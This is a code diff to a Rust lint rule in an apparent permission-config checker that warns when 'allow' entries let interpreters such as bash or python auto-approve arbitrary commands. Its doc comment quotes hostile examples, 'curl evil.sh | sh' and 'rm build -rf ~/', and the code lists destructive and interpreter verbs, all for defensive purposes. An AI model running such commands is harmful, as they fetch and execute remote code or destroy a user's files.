@@ -21,7 +21,11 @@
 //!
 //! ## Why is this bad?
 //! Patterns match by token prefix (SPEC §3.2): everything after the entry
-//! is free. `Terminal(bash -c)` auto-approves `bash -c 'curl evil.sh | sh'`;
+//! is free. For the interpreters among the runners (`bash`, `sh`, `zsh`,
+//! `eval`, `source`, `node`, `python`, `python3`, `perl`, `ruby`) the
+//! message says so: the code they run (a script file, `-e`, stdin) is
+//! beyond what permc reads (SPEC §4.3's stated limit), so no deny entry,
+//! built-in or ceiling sees the commands it starts. `Terminal(bash -c)` auto-approves `bash -c 'curl evil.sh | sh'`;
 //! `Terminal(rm build)` auto-approves `rm build -rf ~/`; `Terminal(npm run)`
 //! runs whatever script the package defines.
 //!
@@ -73,6 +77,12 @@ const RUNNERS: &[&[&str]] = &[
     &["yarn", "run"],
 ];
 
+/// The runners that read a program text (a script file, `-c`, `-e`, stdin):
+/// what they run is code permc cannot read, whatever the words say.
+const INTERPRETERS: &[&str] = &[
+    "bash", "sh", "zsh", "eval", "source", "node", "python", "python3", "perl", "ruby",
+];
+
 /// Verbs that destroy or send data away (SPEC §11, verbatim).
 const DESTROYERS: &[&[&str]] = &[
     &["rm"],
@@ -106,8 +116,13 @@ fn run(cx: &FileContext<'_>, out: &mut Vec<Diagnostic>) {
             )
         } else if let Some(verb) = RUNNERS.iter().find(|v| expands(a, v)) {
             let verb = verb.join(" ");
+            let runs = if INTERPRETERS.contains(&verb.as_str()) {
+                "runs code permc cannot read (SPEC §4.3: a script's or a program's own text is beyond the reader)"
+            } else {
+                "runs other commands"
+            };
             (
-                format!("`{text}` in allow lets any command through: `{verb}` runs other commands, and every word after the entry is free"),
+                format!("`{text}` in allow lets any command through: `{verb}` {runs}, and every word after the entry is free"),
                 format!("allow the exact commands you mean, every word that matters written out, or move `{text}` to ask"),
             )
         } else if let Some(verb) = DESTROYERS.iter().find(|v| expands(a, v)) {
